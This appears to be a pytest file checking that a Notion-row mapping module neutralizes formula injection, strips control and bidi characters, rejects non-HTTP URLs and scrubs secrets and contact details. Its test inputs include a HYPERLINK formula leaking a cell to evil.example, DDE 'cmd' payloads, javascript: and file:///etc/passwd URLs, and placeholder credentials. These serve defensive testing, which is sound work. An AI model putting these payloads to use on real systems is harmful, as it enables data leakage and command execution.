"""Nothing unsafe reaches Notion: mapping.py is the one place rows are built, so every text property is checked here."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from connectors.signal import Signal, SourceName
from scoring.policy import Policy
from service.notion import content_hash
from service.notion.codecs import encode_property
from service.pipelines.mapping import safe_text, safe_url, scrub_secrets, signal_to_write

WHEN = datetime(2026, 11, 2, tzinfo=UTC)


def write(**fields: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "source": SourceName.G2,
        "external_id": "1",
        "title": "t",
        "created_at": WHEN,
        "updated_at": WHEN,
        "url": "https://www.g2.com/r/1",
    }
    values.update(fields)
    return signal_to_write(Signal(**values), Policy(), scrub=True).properties


TEXT_PROPERTIES = ("Name", "Excerpt", "Customer")


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1 leading tab",
        "\r=1+1 leading carriage return",
        "\uff1d1+1 fullwidth equals",
    ],
)
def test_no_text_property_starts_with_a_formula_character(payload: str) -> None:
    properties = write(title=payload, text=payload, customer=payload)
    for name in TEXT_PROPERTIES:
        assert not properties[name].startswith(tuple("=+-@\t\r\uff1d")), (name, properties[name])
    assert properties["Name"].startswith("'")


def test_control_characters_and_bidi_overrides_are_stripped_from_every_text_property() -> None:
    hostile = "bad\x00nul \x07bell \x1b[31mred \x08back \x7fdel \u202eevil\u202c \ufeffbom \u200bzw"
    properties = write(title=hostile, text=hostile, customer=hostile)
    for name in TEXT_PROPERTIES:
        assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in properties[name]), name
        assert "\u202e" not in properties[name]
        assert "\ufeff" not in properties[name]
    assert "nul" in properties["Name"]


def test_emoji_and_rtl_text_land_as_written() -> None:
    text = "🧑‍💻 עברית العربية"
    assert write(title=text)["Name"] == text


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "  JAVASCRIPT:alert(1)", "data:text/html,<b>", "file:///etc/passwd", "http://"]
)
def test_only_http_urls_reach_the_url_property(url: str) -> None:
    assert write(url=url)["Source URL"] is None


def test_http_urls_are_kept() -> None:
    assert safe_url("https://github.com/a/b/issues/1", "github:a/b#1") == "https://github.com/a/b/issues/1"


@pytest.mark.parametrize(
    ("secret", "label"),
    [
        ("AKIAIOSFODNN7EXAMPLE", "aws key"),
        ("ghp_" + "a1B2" * 9, "github token"),
        ("github_" + "pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz", "github token"),
        ("ntn_" + "4eC39HqLyjWDarjtT1zdp7dc", "notion token"),
        ("xoxb-123456789012-abcdefABCDEF", "slack token"),
        ("sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc", "stripe key"),
        ("Bearer eyJhbGciOiJIUzI1NiJ9.payload.sig", "bearer token"),
        ("password=hunter2!", "password"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----", "private key"),
    ],
)
def test_each_secret_pattern_is_removed_from_titles_and_excerpts(secret: str, label: str) -> None:
    assert scrub_secrets(f"before {secret} after") == f"before [{label} removed] after"
    properties = write(title=f"see {secret}", text=f"log: {secret}")
    assert secret.split("\n", maxsplit=1)[0] not in properties["Name"]
    assert secret.split("\n", maxsplit=1)[0] not in properties["Excerpt"]


def test_secrets_are_removed_even_with_pii_scrubbing_off() -> None:
    assert "AKIA" not in safe_text("key AKIAIOSFODNN7EXAMPLE", scrub=False)


def test_email_and_phone_are_scrubbed_from_the_title_and_switchable() -> None:
    title = "Call jane.doe@acme.com at +1 (415) 555-0199"
    assert write(title=title)["Name"] == "Call [email] at [phone]"
    assert safe_text(title, scrub=False) == title


def test_the_content_hash_is_stable_for_unchanged_input() -> None:
    def digest() -> str:
        properties = write(title="=1+1 \x00 jane@acme.com", text="AKIAIOSFODNN7EXAMPLE", url="javascript:x")
        kinds = {"Name": "title", "Excerpt": "rich_text", "Customer": "rich_text", "Source URL": "url"}
        return content_hash({k: encode_property(kinds[k], properties[k]) for k in kinds})

    assert digest() == digest()
